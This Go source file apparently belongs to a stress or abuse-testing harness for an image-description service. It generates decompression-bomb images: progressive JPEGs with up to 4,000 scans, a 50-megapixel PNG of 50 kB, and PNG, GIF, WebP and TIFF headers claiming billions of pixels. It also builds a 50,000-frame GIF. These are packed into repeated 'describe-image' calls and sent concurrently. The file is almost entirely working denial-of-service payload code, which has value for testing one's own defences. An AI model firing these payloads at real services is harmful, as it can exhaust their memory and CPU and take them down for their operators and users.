package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/png"
	"slices"
	"strings"
)

// pictureAttacks are of small files that are large images, or that say so.
func pictureAttacks() []attack {
	scans := func(side, scans int) func() []byte { return func() []byte { return progressive(side, scans) } }
	var all []attack
	for _, p := range []struct {
		name  string
		file  func() []byte
		count int // in one call
		calls int // at once, by one caller
		short bool
	}{
		{"JPEG, 50 MP in 98 scans", scans(7000, 98), 1, 4, true},
		{"JPEG, 50 MP in 10 scans, many", scans(7000, 10), 5, 20, true},
		{"JPEG, 6 MP in 80 scans, many", scans(2500, 80), 5, 20, false},
		{"JPEG, 0.6 MP in 98 scans, many", scans(800, 98), 5, 40, false},
		{"JPEG, 4,000 scans of 0.06 MP", scans(256, 4000), 1, 4, false},
		{"PNG, 50 MP of one colour, many", flatPNG, 5, 20, true},
		{"PNG that says 3,600 MP", func() []byte { return pngHeader(60_000, 60_000) }, 5, 4, true},
		{"GIF that says 4,295 MP", gifHeader, 5, 4, false},
		{"GIF of 50,000 frames", manyFrames, 1, 4, false},
		{"WebP that says 268 MP", flatWebP, 5, 4, true},
		{"TIFF that says 4,295 MP", tiffHeader, 5, 4, false},
	} {
		many := p.calls*p.count >= 100
		all = append(all, attack{name: "picture: " + p.name, short: p.short, sigterm: many && strings.HasPrefix(p.name, "JPEG"),
			run: func(ctx context.Context, a *attacker) {
				body := describe(p.file(), p.count)
				a.together(a.number((p.calls+1)/2, p.calls), func(int) { a.post(ctx, 1, body) })
			}})
	}
	return all
}

// describe returns a call with a file several times.
func describe(file []byte, count int) []byte {
	source := `"data:image/unknown;base64,` + base64.StdEncoding.EncodeToString(file) + `"`
	return []byte(call + `"describe-image","arguments":{"images":[` + repeat(count, source) + `]}}}`)
}

// progressive composes a grey JPEG without any detail: each of its scans has a few
// bytes, and visits all pixels.
func progressive(side, scans int) []byte {
	table := func(class, symbol byte) string { // one code of one bit
		return string(slices.Concat([]byte{class, 1}, make([]byte, 15), []byte{symbol}))
	}
	size := string([]byte{byte(side >> 8), byte(side), byte(side >> 8), byte(side)})
	blocks := (side + 7) / 8 * ((side + 7) / 8)
	var b bytes.Buffer
	b.WriteString("\xff\xd8")
	b.Write(jpegSegment(0xdb, "\x00"+strings.Repeat("\x01", 64)))
	b.Write(jpegSegment(0xc2, "\x08"+size+"\x01\x01\x11\x00"))
	b.Write(jpegSegment(0xc4, table(0x00, 0)))
	b.Write(jpegSegment(0xc4, table(0x10, 0xe0)))
	b.Write(jpegSegment(0xda, "\x01\x01\x00\x00\x00\x00"))
	b.Write(make([]byte, blocks/8+1))
	for range scans - 1 {
		b.Write(jpegSegment(0xda, "\x01\x01\x00\x01\x3f\x00"))
		b.Write(make([]byte, blocks/0x4000*2+2)) // ends of 16,384 blocks
	}
	b.WriteString("\xff\xd9")
	return b.Bytes()
}

func jpegSegment(marker byte, content string) []byte {
	head := binary.BigEndian.AppendUint16([]byte{0xff, marker}, uint16(len(content)+2))
	return append(head, content...)
}

// flatPNG returns an image of 50 megapixels in 50 kB.
func flatPNG() []byte {
	var b bytes.Buffer
	encoder := png.Encoder{CompressionLevel: png.BestSpeed}
	if err := encoder.Encode(&b, image.NewGray(image.Rect(0, 0, 7000, 7000))); err != nil {
		panic(err) // a buffer takes everything
	}
	return b.Bytes()
}

// pngHeader returns a PNG that ends after its size.
func pngHeader(width, height uint32) []byte {
	header := binary.BigEndian.AppendUint32([]byte("IHDR"), width)
	header = append(binary.BigEndian.AppendUint32(header, height), 8, 6, 0, 0, 0)
	file := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), header...)
	return append(binary.BigEndian.AppendUint32(file, crc32.ChecksumIEEE(header)), make([]byte, 64)...)
}

func gifHeader() []byte {
	return []byte("GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff," + "\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02L\x01\x00;")
}

// manyFrames returns an animation of 2,000 × 2,000 pixels whose frames have one pixel.
func manyFrames() []byte {
	const frame = "!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"
	return []byte("GIF89a\xd0\x07\xd0\x07\x80\x00\x00\x00\x00\x00\xff\xff\xff" + strings.Repeat(frame, 50_000) + ";")
}

// flatWebP returns an image of 16,384 × 16,384 pixels of one colour: prefix codes of one
// symbol take no bits.
func flatWebP() []byte {
	data := "\x2f\xff\xff\xff\x0f\x88\x88\x08\x00\x00"
	chunk := "WEBPVP8L" + string(binary.LittleEndian.AppendUint32(nil, uint32(len(data)))) + data
	return []byte("RIFF" + string(binary.LittleEndian.AppendUint32(nil, uint32(len(chunk)))) + chunk)
}

// tiffHeader returns a TIFF whose first directory has only a size.
func tiffHeader() []byte {
	return []byte("II*\x00\x08\x00\x00\x00\x02\x00" + "\x00\x01\x04\x00\x01\x00\x00\x00\xff\xff\x00\x00" +
		"\x01\x01\x04\x00\x01\x00\x00\x00\xff\xff\x00\x00" + "\x00\x00\x00\x00")
}
